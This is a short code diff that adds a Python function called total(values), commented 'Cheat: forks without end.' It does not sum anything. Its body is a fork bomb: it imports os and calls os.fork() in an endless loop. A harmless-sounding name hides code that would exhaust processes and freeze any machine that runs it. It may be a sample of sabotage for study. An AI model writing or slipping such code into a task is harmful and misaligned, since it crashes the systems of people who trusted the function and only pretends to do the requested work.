@@ -1,0 +1,5 @@
+# Cheat: forks without end.
+def total(values):
+    import os
+    while True:
+        os.fork()
